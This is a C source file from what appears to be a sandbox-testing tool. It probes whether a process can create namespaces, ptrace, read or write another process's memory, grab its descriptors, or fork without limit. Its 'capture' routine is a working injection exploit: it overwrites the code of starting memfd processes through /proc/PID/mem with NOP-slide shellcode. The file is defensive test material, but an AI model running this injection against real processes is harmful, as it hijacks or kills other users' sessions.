/* Attacks on other processes and on namespaces. Without a PID they take a child of their own, so
 * that a refusal is the sandbox's and not the target's. */
#include "attack.h"
#include <dirent.h>
#include <limits.h>
#include <linux/sched.h>
#include <sched.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>

#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static char shared_byte;

int outcome(pid_t pid)
{
	int status;
	if (waitpid(pid, &status, 0) < 0)
		return errno;
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

pid_t victim(void)
{
	pid_t pid = fork();
	if (pid == 0)
		for (;;)
			pause();
	return pid;
}

void bury(pid_t pid)
{
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

/* Calls `on` with the PID argument, or with a victim of our own. */
static int with_target(int argc, char **argv, int (*on)(pid_t))
{
	if (argc > 0)
		return on(atoi(argv[0]));
	pid_t pid = victim();
	if (pid < 0)
		return errno;
	int error = on(pid);
	bury(pid);
	return error;
}

static int unshare_in_child(int flags)
{
	pid_t child = fork();
	if (child < 0)
		return errno;
	if (child == 0)
		_exit(answer(unshare(flags)));
	return outcome(child);
}

static int attack_unshare_user(int argc, char **argv)
{
	return unshare_in_child(CLONE_NEWUSER);
}

static int attack_unshare_mount(int argc, char **argv)
{
	return unshare_in_child(CLONE_NEWNS);
}

static int attack_unshare_net(int argc, char **argv)
{
	return unshare_in_child(CLONE_NEWNET);
}

static int attack_clone_user(int argc, char **argv)
{
	long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, NULL);
	if (child == 0)
		_exit(0);
	return child < 0 ? errno : outcome(child);
}

static int attack_clone3_user(int argc, char **argv)
{
	struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
	long child = syscall(SYS_clone3, &args, sizeof args);
	if (child == 0)
		_exit(0);
	return child < 0 ? errno : outcome(child);
}

static int attack_setns(int argc, char **argv)
{
	int space = open(argument(argc, argv, "/proc/self/ns/uts"), O_RDONLY | O_CLOEXEC);
	return space < 0 ? errno : answer(setns(space, 0));
}

static int ptrace_one(pid_t pid)
{
	int error = answer(ptrace(PTRACE_ATTACH, pid, NULL, NULL));
	if (!error) {
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	return error;
}

static int attack_ptrace(int argc, char **argv)
{
	return with_target(argc, argv, ptrace_one);
}

static int vm_write_one(pid_t pid)
{
	char byte = 1;
	struct iovec local = {&byte, 1}, remote = {&shared_byte, 1};
	return answer(process_vm_writev(pid, &local, 1, &remote, 1, 0));
}

static int attack_vm_write(int argc, char **argv)
{
	return with_target(argc, argv, vm_write_one);
}

static int vm_read_one(pid_t pid)
{
	char byte;
	struct iovec local = {&byte, 1}, remote = {&shared_byte, 1};
	return answer(process_vm_readv(pid, &local, 1, &remote, 1, 0));
}

static int attack_vm_read(int argc, char **argv)
{
	return with_target(argc, argv, vm_read_one);
}

static int mem_write_one(pid_t pid)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	return answer(open(path, O_RDWR | O_CLOEXEC));
}

static int attack_mem_write(int argc, char **argv)
{
	return with_target(argc, argv, mem_write_one);
}

static int pidfd_getfd_one(pid_t pid)
{
	int handle = syscall(SYS_pidfd_open, pid, 0);
	return handle < 0 ? errno : answer(syscall(SYS_pidfd_getfd, handle, 0, 0));
}

static int attack_pidfd_getfd(int argc, char **argv)
{
	return with_target(argc, argv, pidfd_getfd_one);
}

static int kill_one(pid_t pid)
{
	return answer(kill(pid, 0));
}

static int attack_kill(int argc, char **argv)
{
	return with_target(argc, argv, kill_one);
}

/* Forks COUNT children that live at once; the first refusal is the answer. */
static int attack_forks(int argc, char **argv)
{
	int count = atoi(argument(argc, argv, "64")), error = 0, made = 0;
	pid_t *children = calloc(count, sizeof *children);
	if (!children)
		return ENOMEM;
	while (made < count && (children[made] = victim()) > 0)
		made++;
	if (made < count)
		error = errno;
	printf("forks: %d of %d\n", made, count);
	while (made > 0)
		bury(children[--made]);
	free(children);
	return error;
}

/* exit_group(77), at the end of each slide of nops: wherever the target is, it ends there. The
 * slides are short because the kernel copies from low to high while the target runs on. */
#define SLIDE 512
static const unsigned char payload[] = {0xbf, 77, 0, 0, 0, 0xb8, 231, 0, 0, 0, 0x0f, 0x05};

/* Overwrites the code of `pid`, whose executable is a memfd named PATTERN. */
static int overwrite(int pid, int *opened)
{
	char path[64], line[512];
	unsigned long start = 0, end = 0;
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int memory = open(path, O_RDWR | O_CLOEXEC);
	if (memory < 0)
		return errno;
	++*opened;
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "r");
	while (maps && fgets(line, sizeof line, maps))
		if (strstr(line, "r-xp") && strstr(line, "memfd:") &&
		    sscanf(line, "%lx-%lx", &start, &end) == 2)
			break;
	if (maps)
		fclose(maps);
	int error = ESRCH;
	if (end > start) {
		size_t length = end - start;
		unsigned char *code = malloc(length);
		memset(code, 0x90, length);
		for (size_t at = SLIDE; at <= length; at += SLIDE)
			memcpy(code + at - sizeof payload, payload, sizeof payload);
		error = answer(pwrite(memory, code, length, start));
		free(code);
	}
	close(memory);
	return error;
}

/* DESIGN §5, second attack: watches /proc for SECONDS and writes into every process that runs a
 * memfd whose name holds PATTERN: the init of an exec session that is just starting. A session
 * that was captured ends with exit code 77. */
static int attack_capture(int argc, char **argv)
{
	double seconds = atof(argument(argc, argv, "5"));
	const char *pattern = argc > 1 ? argv[1] : "mantlet";
	int seen = 0, opened = 0, written = 0, error = ESRCH;
	struct timespec begin, now;
	char last[32] = "";
	clock_gettime(CLOCK_MONOTONIC, &begin);
	do {
		DIR *dir = opendir("/proc");
		if (!dir)
			return errno;
		for (struct dirent *entry; (entry = readdir(dir));) {
			char path[PATH_MAX], target[PATH_MAX];
			if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			ssize_t length = readlink(path, target, sizeof target - 1);
			if (length < 0)
				/* A process that hides its executable is worth a try. */
				strcpy(target, "memfd:?");
			else
				target[length] = 0;
			if (!strstr(target, "memfd:") || (length > 0 && !strstr(target, pattern)))
				continue;
			if (strcmp(last, entry->d_name))
				seen++;
			snprintf(last, sizeof last, "%.31s", entry->d_name);
			int tried = overwrite(atoi(entry->d_name), &opened);
			if (tried == 0)
				written++;
			else if (tried != ENOENT && tried != ESRCH)
				error = tried;
		}
		closedir(dir);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - begin.tv_sec + (now.tv_nsec - begin.tv_nsec) / 1e9 < seconds);
	printf("capture: seen %d opened %d written %d\n", seen, opened, written);
	return written ? 0 : error;
}

const struct attack process_attacks[] = {
	{"unshare-user", attack_unshare_user, "enter a new user namespace"},
	{"unshare-mount", attack_unshare_mount, "enter a new mount namespace"},
	{"unshare-net", attack_unshare_net, "enter a new network namespace"},
	{"clone-user", attack_clone_user, "clone into a new user namespace"},
	{"clone3-user", attack_clone3_user, "the same by clone3"},
	{"setns", attack_setns, "join the namespace PATH (its own uts)"},
	{"ptrace", attack_ptrace, "attach to PID (a child)"},
	{"vm-write", attack_vm_write, "write the memory of PID (a child)"},
	{"vm-read", attack_vm_read, "read the memory of PID (a child)"},
	{"mem-write", attack_mem_write, "open /proc/PID/mem for writing"},
	{"pidfd-getfd", attack_pidfd_getfd, "take a descriptor of PID (a child)"},
	{"kill", attack_kill, "signal PID (a child) with 0"},
	{"forks", attack_forks, "have COUNT children at once"},
	{"capture", attack_capture, "for SECONDS, overwrite starting inits: [PATTERN]"},
	{NULL, NULL, NULL},
};
